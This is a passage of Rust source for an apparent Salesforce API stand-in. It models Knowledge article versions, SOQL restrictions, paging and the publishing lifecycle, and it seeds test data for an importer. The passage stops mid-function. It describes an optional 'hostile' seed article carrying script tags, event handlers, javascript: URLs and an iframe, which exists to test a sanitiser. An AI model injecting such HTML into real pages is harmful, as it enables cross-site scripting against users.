//! Salesforce Knowledge in the Salesforce stand-in: the Lightning Knowledge article
//! version object `Knowledge__kav`, queried through the org's SOQL routes so Conduit can
//! import published articles. Shaped as Salesforce's Object Reference
//! ("Knowledge__kav", "KnowledgeArticleVersion"), Knowledge Developer Guide ("Salesforce
//! Knowledge with SOQL and SOSL", "PublishingService Class", "Retrieve Knowledge Language
//! Settings") and SOQL and SOSL Reference ("WITH DATA CATEGORY", "Change the Batch Size
//! in Queries"). Auth, the daily API allowance (`Sforce-Limit-Info`, 403
//! `REQUEST_LIMIT_EXCEEDED`), forced faults and the malformed-body knob are the other data
//! routes' (see [`super`]): a Bearer session of a Salesforce grant with `api` or `full`,
//! e.g. `seed_grant(OAuthProvider::Salesforce, "salesforce-sandbox-client-id", None,
//! &["api"])` for `admin@acme.test` of org [`super::DEFAULT_SALESFORCE_ORG`], at the
//! instance host `acme.my.salesforce.com`.
//!
//! | Route name | Request | Answer |
//! |---|---|---|
//! | `salesforce.query` | `GET /services/data/vNN.N/query?q=SELECT … FROM Knowledge__kav WHERE PublishStatus='Online' …` | `{totalSize, done, records, nextRecordsUrl?}` |
//! | `salesforce.query_all` | `GET …/queryAll?q=` (same rules) | likewise |
//! | `salesforce.query_more` | `GET …/query/{locator}` (the `nextRecordsUrl`) | the next page |
//! | `salesforce.describe` | `GET …/sobjects/Knowledge__kav/describe` | describe, rich text fields with `extraTypeInfo: "richtextarea"`, `htmlFormatted: true` |
//! | `salesforce.sobject_get` | `GET …/sobjects/Knowledge__kav/{versionId}[?fields=]` | one version, any status |
//! | `salesforce.knowledge_settings` | `GET …/knowledgeManagement/settings` (v31.0+) | `{defaultLanguage, knowledgeEnabled, languages:[{active, name}]}` |
//!
//! The object ([`FIELDS`]): `Id` (version id, `ka0…`), `KnowledgeArticleId` (`kA0…`, one
//! per article, shared by its versions and translations), `OwnerId`, `IsDeleted`,
//! `ValidationStatus`, `PublishStatus` (`Draft`, `Online`, `Archived`), `VersionNumber`,
//! `IsLatestVersion`, `IsVisibleInApp|Pkb|Csp|Prm`, `CreatedDate`, `LastModifiedDate`,
//! `SystemModstamp`, `Language` (`en_US`, `fr`, `de`…), `Title`, `UrlName`,
//! `ArchivedDate`, `Summary`, `ArticleNumber`, `FirstPublishedDate`, `LastPublishedDate`,
//! `ArticleCreatedDate`, `ArticleMasterLanguage`, `IsMasterLanguage`, `MasterVersionId`,
//! `IsOutOfDate`, and two rich text fields. Knowledge has no standard body field: the
//! org's record types define their own. The stand-in's org has the common FAQ layout:
//! `Question__c` (optional) and the body [`BODY_FIELD`] `Answer__c`, both Rich Text Area
//! fields of at most [`RICH_TEXT_MAX`] characters (Salesforce's limit for the type).
//!
//! SOQL rules on `Knowledge__kav` (400 `[{message, errorCode}]` otherwise):
//! - Knowledge not enabled for the org ([`SandboxState::sf_kb_set_enabled`]; seeding or
//!   adding an article enables it): `INVALID_TYPE` "sObject type 'Knowledge__kav' is not
//!   supported. If you are attempting to use a custom object, be sure to append the '__c'
//!   after the entity name…", exactly the answer for an unknown object, with Salesforce's
//!   caret-pointing location; describe and retrieve answer 404 `NOT_FOUND`.
//! - The top-level `AND` of the `WHERE` clause must hold `PublishStatus = '<status>'` (one
//!   value) or a filter on `Id` / `KnowledgeArticleId` (`=` or `IN`): the Object Reference
//!   says "Article queries … in SOQL … require that you specify either the PublishStatus
//!   or the Id field in the WHERE clause", the Knowledge guide "Filter on a single value
//!   of PublishStatus … To find all versions of each article, omit the PublishStatus
//!   filter, but do filter on one or more master key IDs". `PublishStatus` anywhere else
//!   (under `OR`/`NOT`, with `IN`, `!=`, or twice) is refused too. Answer:
//!   `MALFORMED_QUERY` [`PUBLISH_STATUS_RESTRICTION`] (Salesforce's wording for
//!   Knowledge is not published; this follows its "Implementation restriction … you must
//!   filter using the following syntax: …" answers for IdeaComment and Vote).
//! - `Language`: before API version 47.0 a query must filter on a single `Language`
//!   value unless it filters on `Id` or `KnowledgeArticleId` (the guide up to Summer '19:
//!   "Always filter on a single value of Language. However, in SOQL, you can filter on
//!   more than one Language if there is a filter on Id or KnowledgeArticleId"; the
//!   Object Reference: "Before API version 47.0, you must include the Language field …").
//!   Else `MALFORMED_QUERY` [`LANGUAGE_RESTRICTION`]. From 47.0 on `Language` is
//!   optional and a query without it returns every language (translations are separate
//!   versions). Before 47.0 a query without a `PublishStatus` filter returns only Online
//!   versions ("queries without a filter on PublishStatus return published articles by
//!   default"); from 47.0 on it returns drafts, Online and archived versions alike.
//! - Long and rich text fields (`Question__c`, `Answer__c`) can be neither filtered nor
//!   ordered: `INVALID_FIELD` "field 'Answer__c' can not be filtered in query call" / "…
//!   can not be sorted in a query call". `Summary` (a plain text area) can be both.
//!   `VersionNumber` can be sorted but not filtered (its Object Reference properties are
//!   "Group, Sort"). Every other field, `LastPublishedDate` and `Id` included, filters
//!   with the operators of the SOQL subset (`>` on date-times:
//!   `LastPublishedDate > 2024-01-01T00:00:00Z`) and orders (`ORDER BY LastPublishedDate,
//!   Id`).
//! - Batches: at most 2,000 rows a page (`Sforce-Query-Options: batchSize=` 200–2,000
//!   as on every object); at most [`LONG_TEXT_BATCH`] when the query selects two or more
//!   custom long text fields (SOQL reference: "If the SOQL statement selects two or more
//!   custom fields of type long text, the batch size can't be greater than 200
//!   records"); and, since Salesforce documents that "the returned batch size can be
//!   lower than the max or what's set in the request, based on the size … of records
//!   queried", a page that selects any long text field ends after the row that brings
//!   its long text past [`LONG_TEXT_PAGE_BYTES`] (at least one row a page). Further pages
//!   come from `nextRecordsUrl` (a snapshot cursor, as for every object), so a client
//!   must follow it until `done` and never assume a page size.
//!
//! Lifecycle, as Salesforce Knowledge runs it (all through [`SandboxState`] knobs; every
//! change stamps the versions it touches with one `SystemModstamp` later than any other
//! of the org):
//! - An article ([`SandboxState::sf_kb_add_article`]) starts as a Draft master version 1
//!   (`IsMasterLanguage` true, `IsLatestVersion` true) or is published at once.
//! - Publishing a new version ([`SandboxState::sf_kb_publish_new_version`]) makes the
//!   article's Online versions `Archived` (`ArchivedDate` set, `IsLatestVersion` false:
//!   kept as version history, as "To query archived article versions, specify the article
//!   Id and set IsLatestVersion='0'" implies) and puts Online a new version set with
//!   `VersionNumber` + 1 and new version ids: the master and every translation ("If you
//!   publish an article that has translations, all translations of the article are
//!   published as well"; editing a translation creates "the new draft master version").
//!   A pending master draft is what gets published (its id is kept). Translations carry
//!   the new master's id in `MasterVersionId`; after a master change they are
//!   `IsOutOfDate`. Publishing in a language the article lacks adds a translation.
//! - A draft of a published article ([`SandboxState::sf_kb_edit_as_draft`]) is a new
//!   master version (`PublishStatus` Draft, `IsLatestVersion` true) beside the Online one
//!   (which stays Online and `IsLatestVersion` true: "the online version is also the
//!   latest version").
//! - Archiving ([`SandboxState::sf_kb_archive`]) moves the Online master and its Online
//!   translations to `Archived` (`ArchivedDate`; `IsLatestVersion` stays true on this
//!   latest archived version); nothing else reports it, so an importer learns of it by
//!   the versions leaving `PublishStatus='Online'` (or by querying
//!   `PublishStatus='Archived'` since its last run).
//!
//! Seeding ([`SandboxState::seed_knowledge`], [`KnowledgeSeed`] → [`KnowledgeSummary`]) is
//! deterministic for a `seed` number and fast (10,000 articles in under a second, even in
//! debug builds); times are in 2024–2025, so later changes always come after them.
//!
//! Not reproduced: SOSL (`/search`), `WITH DATA CATEGORY`, `UPDATE VIEWSTAT`, the
//! `/support/knowledgeArticles` and `/knowledgeManagement/articleVersions` resources;
//! writes through the REST API (POST/PATCH/DELETE on `/sobjects/Knowledge__kav` answer
//! 404 `NOT_FOUND` here, where Salesforce creates and updates drafts); record types,
//! data categories, channels beyond the `IsVisibleIn*` flags, scheduled publication,
//! approval processes, the per-user "View Draft Articles" / "View Archived Articles"
//! permissions (every session sees every status); Salesforce's own filtering of rich
//! text on save (the hostile seed article keeps its `<script>` and `on*` attributes so
//! Conduit's sanitiser is what is tested); what happens to an article's draft when the
//! article is archived (kept here).

use std::collections::{BTreeMap, HashSet};
use std::fmt::Write as _;
use std::sync::Arc;

use axum::http::StatusCode;
use axum::response::Response;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::schema::{self, Field, FieldType as T, SfObject, Source, make_id, sf_datetime};
use super::soql::{Expr, Literal, Op, Query, located};
use super::store::{Cursor, Org, Rec};
use super::{Handled, SfRoute, bad_request, field_list, not_found};
use crate::providers::ProviderRequest;
use crate::state::SandboxState;
use crate::wire;

/// The org's default Knowledge language, every seeded article's master language.
pub const DEFAULT_KNOWLEDGE_LANGUAGE: &str = "en_US";
/// The rich text field holding an article's body.
pub const BODY_FIELD: &str = "Answer__c";
/// Most characters of a Rich Text Area field.
pub const RICH_TEXT_MAX: usize = 131_072;
/// Most rows a page holds when a query selects two or more custom long text fields.
pub const LONG_TEXT_BATCH: usize = 200;
/// A page that selects long text ends after the row that brings its long text past
/// this many bytes.
pub const LONG_TEXT_PAGE_BYTES: usize = 1_000_000;
/// DynamoDB's item size limit: the seeded large article's body is over it.
pub const DYNAMODB_ITEM_LIMIT: usize = 400 * 1024;
/// `MALFORMED_QUERY` message of a `Knowledge__kav` query without a usable
/// `PublishStatus` or id filter.
pub const PUBLISH_STATUS_RESTRICTION: &str = "Implementation restriction: When querying or searching the Knowledge__kav object, you must filter using the following syntax: Id = [single ID], Id IN [list of IDs], KnowledgeArticleId = [single ID], KnowledgeArticleId IN [list of IDs], or PublishStatus = [status]. In addition PublishStatus is only permitted in a top-level AND condition.";
/// `MALFORMED_QUERY` message of a `Knowledge__kav` query before API 47.0 without a
/// single-value `Language` filter (or an id filter).
pub const LANGUAGE_RESTRICTION: &str = "Implementation restriction: When querying or searching the Knowledge__kav object, you must filter using the following syntax: Language = [single language]. A filter on more than one language requires a filter on Id or KnowledgeArticleId.";

/// The API version from which `Language` filters are optional.
const LANGUAGE_OPTIONAL_FROM: u32 = 47;
/// The API version that introduced `/knowledgeManagement/settings`.
const SETTINGS_FROM: u32 = 31;
/// 2024-01-01T00:00:00Z: seeded articles are created from here on.
const SEED_EPOCH_MS: i64 = 1_704_067_200_000;
const MINUTE_MS: i64 = 60_000;
/// The owner of every article (the default sandbox user's id).
const OWNER_ID_SEQ: u64 = 916_132_832;
/// First KnowledgeArticleId sequence and ArticleNumber.
const FIRST_ARTICLE_SEQ: u64 = 916_132_832;
const FIRST_ARTICLE_NUMBER: u64 = 1_000;

/// Languages Salesforce Knowledge supports that the stand-in accepts.
const SUPPORTED_LANGUAGES: [&str; 18] = [
    "en_US", "en_GB", "fr", "de", "es", "it", "ja", "pt_BR", "nl_NL", "zh_CN", "zh_TW", "ko", "ru",
    "sv", "da", "fi", "no", "pl",
];
const PUBLISH_STATUSES: [&str; 3] = ["Draft", "Online", "Archived"];
const VALIDATION_STATUSES: [&str; 2] = ["Validated", "Not Validated"];

// Field indices of `Knowledge__kav`, in `FIELDS` order.
const ID: usize = 0;
const ARTICLE_ID: usize = 1;
const OWNER: usize = 2;
const VALIDATION: usize = 4;
const PUBLISH_STATUS: usize = 5;
const VERSION_NUMBER: usize = 6;
const IS_LATEST: usize = 7;
const VISIBLE_APP: usize = 8;
const VISIBLE_PKB: usize = 9;
const VISIBLE_CSP: usize = 10;
const VISIBLE_PRM: usize = 11;
const LANGUAGE: usize = 15;
const TITLE: usize = 16;
const URL_NAME: usize = 17;
const ARCHIVED_DATE: usize = 18;
const SUMMARY: usize = 19;
const ARTICLE_NUMBER: usize = 20;
const FIRST_PUBLISHED: usize = 21;
const LAST_PUBLISHED: usize = 22;
const ARTICLE_CREATED: usize = 23;
const MASTER_LANGUAGE: usize = 24;
const IS_MASTER: usize = 25;
const MASTER_VERSION: usize = 26;
const OUT_OF_DATE: usize = 27;
const QUESTION: usize = 28;
const ANSWER: usize = 29;
const FIELD_COUNT: usize = 30;

const fn stored(name: &'static str, label: &'static str, kind: T, length: u32) -> Field {
    Field::text(name, label, kind, length).system(Source::Stored)
}

const fn not_null(field: Field) -> Field {
    Field {
        nillable: false,
        ..field
    }
}

const fn rich(name: &'static str, label: &'static str) -> Field {
    Field {
        custom: true,
        ..Field::text(name, label, T::Textarea, RICH_TEXT_MAX as u32)
    }
}

/// `Knowledge__kav`'s fields, in describe order.
pub(crate) const FIELDS: [Field; FIELD_COUNT] = [
    Field::text("Id", "Knowledge Article Version ID", T::Id, 18).system(Source::Id),
    not_null(stored(
        "KnowledgeArticleId",
        "Knowledge Article ID",
        T::Reference,
        18,
    )),
    not_null(stored("OwnerId", "Owner ID", T::Reference, 18)),
    Field::text("IsDeleted", "Deleted", T::Boolean, 0).system(Source::Deleted),
    Field {
        sort: false,
        ..not_null(stored(
            "ValidationStatus",
            "Validation Status",
            T::Picklist,
            255,
        ))
        .picklist(&VALIDATION_STATUSES)
    },
    not_null(stored(
        "PublishStatus",
        "Publication Status",
        T::Picklist,
        40,
    ))
    .picklist(&PUBLISH_STATUSES),
    Field {
        filter: false,
        ..not_null(stored("VersionNumber", "Version Number", T::Int, 0))
    },
    not_null(stored(
        "IsLatestVersion",
        "Is Latest Version",
        T::Boolean,
        0,
    )),
    not_null(Field::text(
        "IsVisibleInApp",
        "Visible In Internal App",
        T::Boolean,
        0,
    )),
    not_null(Field::text(
        "IsVisibleInPkb",
        "Visible In Public Knowledge Base",
        T::Boolean,
        0,
    )),
    not_null(Field::text(
        "IsVisibleInCsp",
        "Visible to Customer",
        T::Boolean,
        0,
    )),
    not_null(Field::text(
        "IsVisibleInPrm",
        "Visible to Partner",
        T::Boolean,
        0,
    )),
    Field::text("CreatedDate", "Created Date", T::DateTime, 0).system(Source::Created),
    Field::text("LastModifiedDate", "Last Modified Date", T::DateTime, 0).system(Source::Modified),
    Field::text("SystemModstamp", "System Modstamp", T::DateTime, 0).system(Source::Modified),
    not_null(Field::text("Language", "Language", T::Picklist, 40)).picklist(&SUPPORTED_LANGUAGES),
    not_null(Field::text("Title", "Title", T::String, 255)),
    not_null(Field::text("UrlName", "URL Name", T::String, 255)),
    stored("ArchivedDate", "Archived Date", T::DateTime, 0),
    Field {
        filter: true,
        sort: true,
        ..Field::text("Summary", "Summary", T::Textarea, 1000)
    },
    not_null(stored("ArticleNumber", "Article Number", T::String, 30)),
    stored("FirstPublishedDate", "First Published Date", T::DateTime, 0),
    stored("LastPublishedDate", "Last Published Date", T::DateTime, 0),
    stored("ArticleCreatedDate", "Article Created Date", T::DateTime, 0),
    stored("ArticleMasterLanguage", "Master Language", T::Picklist, 40)
        .picklist(&SUPPORTED_LANGUAGES),
    not_null(stored(
        "IsMasterLanguage",
        "Is Master Language",
        T::Boolean,
        0,
    )),
    stored("MasterVersionId", "Master Version ID", T::Reference, 18).reference(SfObject::Knowledge),
    not_null(stored("IsOutOfDate", "Is Out Of Date", T::Boolean, 0)),
    rich("Question__c", "Question"),
    rich("Answer__c", "Answer"),
];

/// `Knowledge__kav` (any case) as the object.
pub(crate) fn object_named(name: &str) -> Option<SfObject> {
    name.trim()
        .eq_ignore_ascii_case(SfObject::Knowledge.name())
        .then_some(SfObject::Knowledge)
}

fn is_long_text(index: usize) -> bool {
    FIELDS
        .get(index)
        .is_some_and(|f| f.kind == T::Textarea && !f.filter)
}

// ---------------------------------------------------------------------------------------
// Public types
// ---------------------------------------------------------------------------------------

/// What [`SandboxState::seed_knowledge`] puts in an org. Deterministic: the same seed
/// gives the same ids, texts and times. As JSON every member is optional.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct KnowledgeSeed {
    /// Articles, the large and the hostile one included (default 100).
    pub articles: usize,
    /// Knowledge languages besides `en_US` (default `fr`, `de`); `fr`, `de` and `es` get
    /// texts in their language, others English ones marked with the language.
    pub languages: Vec<String>,
    /// Every `translated_every`th article has an Online translation in every other
    /// language (0: none; default 3).
    pub translated_every: usize,
    /// Every `draft_every`th article has a draft: odd ones of them were never published
    /// (a Draft version 1 only), even ones are published with a newer draft in progress
    /// (0: none; default 10).
    pub draft_every: usize,
    /// Every `history_every`th published article was published twice: its version 1 is
    /// `Archived` with `IsLatestVersion` false (0: none; default 5).
    pub history_every: usize,
    /// Make the first article's body as long as a rich text field allows
    /// ([`RICH_TEXT_MAX`] characters), mostly multi-byte, so it is over
    /// [`DYNAMODB_ITEM_LIMIT`] bytes.
    pub large_article: bool,
    /// Make one article's body hostile: `<script>`, `on*=` handlers, `javascript:` URLs,
    /// an `<iframe>` and a form among ordinary paragraphs.
    pub hostile_article: bool,
    /// Varies titles and times.
    pub seed: u64,
}

impl Default for KnowledgeSeed {
    fn default() -> Self {
        Self {
            articles: 100,
            languages: vec!["fr".to_owned(), "de".to_owned()],
            translated_every: 3,
            draft_every: 10,
            history_every: 5,
            large_article: false,
            hostile_article: false,
            seed: 0,
        }
    }
}

/// What a seeded org's Knowledge holds.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct KnowledgeSummary {
    /// The org.
    pub org: String,
    /// Active Knowledge languages, the default (`en_US`) first.
    pub languages: Vec<String>,
    /// Every `KnowledgeArticleId`, in creation order.
    pub article_ids: Vec<String>,
    /// Articles with an Online master version.
    pub published_articles: usize,
    /// Online versions, translations included.
    pub online_versions: usize,
    /// Online translations (Online versions that are not the master language's).
    pub online_translations: usize,
    /// Ids of the Online versions, translations included.
    pub online_version_ids: Vec<String>,
    /// Draft versions.
    pub drafts: usize,
    /// Articles that were never published (a draft only).
    pub unpublished_articles: usize,
    /// Archived versions (older versions of published articles).
    pub archived_versions: usize,
    /// The article whose body is over [`DYNAMODB_ITEM_LIMIT`] bytes, if asked for.
    pub large_article_id: Option<String>,
    /// The article with hostile HTML, if asked for.
    pub hostile_article_id: Option<String>,
    /// The latest `LastPublishedDate` of an Online version (Salesforce format).
    pub newest_published: Option<String>,
}

/// One article version as the stand-in keeps it (times in Salesforce's format).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct KbVersion {
    /// Version id (`ka0…`).
    pub id: String,
    /// `Language`.
    pub language: String,
    /// `PublishStatus`: `Draft`, `Online` or `Archived`.
    pub publish_status: String,
    /// `VersionNumber`.
    pub version_number: u32,
    /// `IsLatestVersion`.
    pub is_latest_version: bool,
    /// `IsMasterLanguage`.
    pub is_master_language: bool,
    /// `MasterVersionId` (translations).
    pub master_version_id: Option<String>,
    /// `Title`.
    pub title: String,
    /// `UrlName`.
    pub url_name: String,
    /// `Summary`.
    pub summary: Option<String>,
    /// `Answer__c`, the body.
    pub body: String,
    /// `LastPublishedDate`.
    pub last_published_date: Option<String>,
    /// `ArchivedDate`.
    pub archived_date: Option<String>,
    /// `SystemModstamp`.
    pub system_modstamp: String,
}

/// An article: every version and translation sharing one `KnowledgeArticleId`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct KbArticle {
    /// `KnowledgeArticleId` (`kA0…`).
    pub article_id: String,
    /// `ArticleNumber`.
    pub article_number: String,
    /// `ArticleMasterLanguage`.
    pub master_language: String,
    /// Its versions in id (creation) order.
    pub versions: Vec<KbVersion>,
}

impl KbArticle {
    /// The Online version in `language`, if any.
    pub fn online(&self, language: &str) -> Option<&KbVersion> {
        self.versions
            .iter()
            .find(|v| v.publish_status == "Online" && v.language == language)
    }

    /// The master language's draft, if any.
    pub fn draft(&self) -> Option<&KbVersion> {
        self.versions
            .iter()
            .find(|v| v.publish_status == "Draft" && v.is_master_language)
    }
}

/// A change to an article's text ([`SandboxState::sf_kb_publish_new_version`],
/// [`SandboxState::sf_kb_edit_as_draft`]); `None` keeps the current value.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct KbChange {
    /// New `Title` (at most 255 characters, not blank).
    pub title: Option<String>,
    /// New body (`Answer__c`, at most [`RICH_TEXT_MAX`] characters).
    pub body: Option<String>,
    /// New `Summary` (at most 1,000 characters).
    pub summary: Option<String>,
}

/// A new article ([`SandboxState::sf_kb_add_article`]).
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct KbNewArticle {
    /// `Title` (at most 255 characters, not blank).
    pub title: String,
    /// Body (`Answer__c`).
    pub body: String,
    /// `Summary`.
    pub summary: Option<String>,
    /// `UrlName` (`None`: from the title; made unique).
    pub url_name: Option<String>,
    /// Master language (`None`: `en_US`); must be an active Knowledge language.
    pub language: Option<String>,
    /// Published at once (else a Draft version 1).
    pub publish: bool,
}

// ---------------------------------------------------------------------------------------
// Per-org state
// ---------------------------------------------------------------------------------------

/// One org's Knowledge settings and counters.
#[derive(Debug, Default)]
pub(crate) struct KbOrg {
    enabled: bool,
    /// Active languages, the default first (empty: `en_US` only).
    languages: Vec<String>,
    next_article: u64,
    /// Version ids of each article, by `KnowledgeArticleId` (creation order).
    articles: BTreeMap<String, Vec<String>>,
    url_names: HashSet<String>,
}

impl KbOrg {
    fn languages(&self) -> Vec<String> {
        if self.languages.is_empty() {
            vec![DEFAULT_KNOWLEDGE_LANGUAGE.to_owned()]
        } else {
            self.languages.clone()
        }
    }

    fn has_language(&self, language: &str) -> bool {
        language == DEFAULT_KNOWLEDGE_LANGUAGE || self.languages.iter().any(|l| l == language)
    }

    fn add_language(&mut self, language: &str) {
        if self.languages.is_empty() {
            self.languages.push(DEFAULT_KNOWLEDGE_LANGUAGE.to_owned());
        }
        if !self.languages.iter().any(|l| l == language) {
            self.languages.push(language.to_owned());
        }
    }

    /// A new article's id and number.
    fn next_article(&mut self) -> (String, String) {
        let seq = self.next_article;
        self.next_article += 1;
        (
            make_id("kA0", FIRST_ARTICLE_SEQ + seq),
            format!("{:09}", FIRST_ARTICLE_NUMBER + seq),
        )
    }

    /// `base` or `base-2`, `base-3`… whichever is free; reserved.
    fn unique_url_name(&mut self, base: &str) -> String {
        let base = if base.is_empty() { "article" } else { base };
        let mut name = base.to_owned();
        let mut n = 2;
        while self.url_names.contains(&name) {
            name = format!("{base}-{n}");
            n += 1;
        }
        self.url_names.insert(name.clone());
        name
    }
}

fn supported(language: &str) -> bool {
    SUPPORTED_LANGUAGES.contains(&language)
}

// ---------------------------------------------------------------------------------------
// Version records
// ---------------------------------------------------------------------------------------

/// A version's values, before it becomes a record.
#[derive(Clone, Debug)]
struct VersionData {
    article_id: String,
    number: String,
    status: &'static str,
    version: u32,
    latest: bool,
    language: String,
    master_language: String,
    title: String,
    url_name: String,
    summary: Option<String>,
    question: Option<String>,
    body: String,
    master_version: Option<String>,
    out_of_date: bool,
    validated: bool,
    public: bool,
    article_created: i64,
    first_published: Option<i64>,
    last_published: Option<i64>,
    archived: Option<i64>,
}

impl VersionData {
    fn values(&self) -> Vec<Value> {
        let mut values = vec![Value::Null; FIELD_COUNT];
        let ms = |t: Option<i64>| t.map_or(Value::Null, Value::from);
        values[ARTICLE_ID] = Value::from(self.article_id.clone());
        values[OWNER] = Value::from(make_id("005", OWNER_ID_SEQ));
        values[VALIDATION] = Value::from(if self.validated {
            "Validated"
        } else {
            "Not Validated"
        });
        values[PUBLISH_STATUS] = Value::from(self.status);
        values[VERSION_NUMBER] = Value::from(self.version);
        values[IS_LATEST] = Value::Bool(self.latest);
        values[VISIBLE_APP] = Value::Bool(true);
        values[VISIBLE_PKB] = Value::Bool(self.public);
        values[VISIBLE_CSP] = Value::Bool(self.public);
        values[VISIBLE_PRM] = Value::Bool(false);
        values[LANGUAGE] = Value::from(self.language.clone());
        values[TITLE] = Value::from(self.title.clone());
        values[URL_NAME] = Value::from(self.url_name.clone());
        values[ARCHIVED_DATE] = ms(self.archived);
        values[SUMMARY] = self.summary.clone().map_or(Value::Null, Value::from);
        values[ARTICLE_NUMBER] = Value::from(self.number.clone());
        values[FIRST_PUBLISHED] = ms(self.first_published);
        values[LAST_PUBLISHED] = ms(self.last_published);
        values[ARTICLE_CREATED] = Value::from(self.article_created);
        values[MASTER_LANGUAGE] = Value::from(self.master_language.clone());
        values[IS_MASTER] = Value::Bool(self.language == self.master_language);
        values[MASTER_VERSION] = self.master_version.clone().map_or(Value::Null, Value::from);
        values[OUT_OF_DATE] = Value::Bool(self.out_of_date);
        values[QUESTION] = self.question.clone().map_or(Value::Null, Value::from);
        values[ANSWER] = Value::from(self.body.clone());
        values
    }

    fn from_rec(rec: &Rec) -> Self {
        let text = |i: usize| rec.values.get(i).and_then(Value::as_str).map(str::to_owned);
        let time = |i: usize| rec.values.get(i).and_then(Value::as_i64);
        let status = match text(PUBLISH_STATUS).as_deref() {
            Some("Online") => "Online",
            Some("Archived") => "Archived",
            _ => "Draft",
        };
        Self {
            article_id: text(ARTICLE_ID).unwrap_or_default(),
            number: text(ARTICLE_NUMBER).unwrap_or_default(),
            status,
            version: rec
                .values
                .get(VERSION_NUMBER)
                .and_then(Value::as_u64)
                .and_then(|v| u32::try_from(v).ok())
                .unwrap_or(1),
            latest: rec.values.get(IS_LATEST).and_then(Value::as_bool) == Some(true),
            language: text(LANGUAGE).unwrap_or_default(),
            master_language: text(MASTER_LANGUAGE).unwrap_or_default(),
            title: text(TITLE).unwrap_or_default(),
            url_name: text(URL_NAME).unwrap_or_default(),
            summary: text(SUMMARY),
            question: text(QUESTION),
            body: text(ANSWER).unwrap_or_default(),
            master_version: text(MASTER_VERSION),
            out_of_date: rec.values.get(OUT_OF_DATE).and_then(Value::as_bool) == Some(true),
            validated: text(VALIDATION).as_deref() == Some("Validated"),
            public: rec.values.get(VISIBLE_PKB).and_then(Value::as_bool) == Some(true),
            article_created: time(ARTICLE_CREATED).unwrap_or(rec.created_ms),
            first_published: time(FIRST_PUBLISHED),
            last_published: time(LAST_PUBLISHED),
            archived: time(ARCHIVED_DATE),
        }
    }

    fn is_master(&self) -> bool {
        self.language == self.master_language
    }
}

/// Stores a new version (a new id) created at `created` and modified at `modified`.
fn insert(
    org: &mut Org,
    kb: &mut KbOrg,
    data: &VersionData,
    created: i64,
    modified: i64,
) -> String {
    let table = org.table_mut(SfObject::Knowledge);
    let id = table.next_id(SfObject::Knowledge);
    let rec = Rec {
        id: id.clone(),
        values: data.values(),
        created_ms: created,
        modified_ms: modified,
        deleted: false,
    };
    table.records.insert(id.clone(), Arc::new(rec));
    kb.articles
        .entry(data.article_id.clone())
        .or_default()
        .push(id.clone());
    id
}

/// Rewrites version `id` with `data`, modified at `modified`.
fn rewrite(org: &mut Org, id: &str, data: &VersionData, modified: i64) {
    let table = org.table_mut(SfObject::Knowledge);
    let Some(current) = table.records.get(id) else {
        return;
    };
    let mut rec = Rec::clone(current);
    rec.values = data.values();
    rec.modified_ms = modified;
    table.records.insert(id.to_owned(), Arc::new(rec));
}

/// The versions of `article_id` as `(id, data)`, in id order.
fn versions_of(org: &Org, kb: &KbOrg, article_id: &str) -> Vec<(String, VersionData)> {
    let table = org.table(SfObject::Knowledge);
    kb.articles
        .get(article_id)
        .map(|ids| {
            ids.iter()
                .filter_map(|id| table.live(id))
                .map(|rec| (rec.id.clone(), VersionData::from_rec(rec)))
                .collect()
        })
        .unwrap_or_default()
}

fn view(rec: &Rec) -> KbVersion {
    let data = VersionData::from_rec(rec);
    KbVersion {
        id: rec.id.clone(),
        is_master_language: data.is_master(),
        language: data.language,
        publish_status: data.status.to_owned(),
        version_number: data.version,
        is_latest_version: data.latest,
        master_version_id: data.master_version,
        title: data.title,
        url_name: data.url_name,
        summary: data.summary,
        body: data.body,
        last_published_date: data.last_published.map(sf_datetime),
        archived_date: data.archived.map(sf_datetime),
        system_modstamp: sf_datetime(rec.modified_ms),
    }
}

fn article_view(org: &Org, kb: &KbOrg, article_id: &str) -> Option<KbArticle> {
    let ids = kb.articles.get(article_id)?;
    let table = org.table(SfObject::Knowledge);
    let versions: Vec<KbVersion> = ids
        .iter()
        .filter_map(|id| table.live(id))
        .map(|rec| view(rec))
        .collect();
    let first = table.live(ids.first()?)?;
    let data = VersionData::from_rec(first);
    Some(KbArticle {
        article_id: article_id.to_owned(),
        article_number: data.number,
        master_language: data.master_language,
        versions,
    })
}

/// Checks a change's lengths.
fn check_change(change: &KbChange) -> Result<(), String> {
    if let Some(title) = &change.title {
        check_title(title)?;
    }
    if let Some(body) = &change.body
        && body.chars().count() > RICH_TEXT_MAX
    {
        return Err(format!(
            "Answer: data value too large (max length={RICH_TEXT_MAX})"
        ));
    }
    if let Some(summary) = &change.summary
        && summary.chars().count() > 1000
    {
        return Err("Summary: data value too large (max length=1000)".to_owned());
    }
    Ok(())
}

fn check_title(title: &str) -> Result<(), String> {
    if title.trim().is_empty() {
        return Err("Required fields are missing: [Title]".to_owned());
    }
    if title.chars().count() > 255 {
        return Err("Title: data value too large (max length=255)".to_owned());
    }
    Ok(())
}

fn apply(data: &mut VersionData, change: &KbChange) {
    if let Some(title) = &change.title {
        data.title.clone_from(title);
    }
    if let Some(body) = &change.body {
        data.body.clone_from(body);
    }
    if let Some(summary) = &change.summary {
        data.summary = (!summary.is_empty()).then(|| summary.clone());
    }
}

/// Publishes a new version set of `article_id` with `change` applied in `language`.
fn publish_new_version(
    org: &mut Org,
    kb: &mut KbOrg,
    article_id: &str,
    language: &str,
    change: &KbChange,
) -> Result<(), String> {
    check_change(change)?;
    if !kb.has_language(language) {
        return Err(format!("{language} is not an active Knowledge language"));
    }
    let versions = versions_of(org, kb, article_id);
    if versions.is_empty() {
        return Err(format!("no article {article_id}"));
    }
    let online: Vec<&(String, VersionData)> = versions
        .iter()
        .filter(|(_, d)| d.status == "Online")
        .collect();
    let drafts: Vec<&(String, VersionData)> = versions
        .iter()
        .filter(|(_, d)| d.status == "Draft")
        .collect();
    let master_draft = drafts.iter().find(|(_, d)| d.is_master());
    let online_master = online.iter().find(|(_, d)| d.is_master());
    let Some((_, base_master)) = master_draft.or(online_master) else {
        return Err(format!("article {article_id} is archived"));
    };
    let master_language = base_master.master_language.clone();
    let stamp = org.stamp();
    let version = match master_draft {
        Some((_, d)) => d.version,
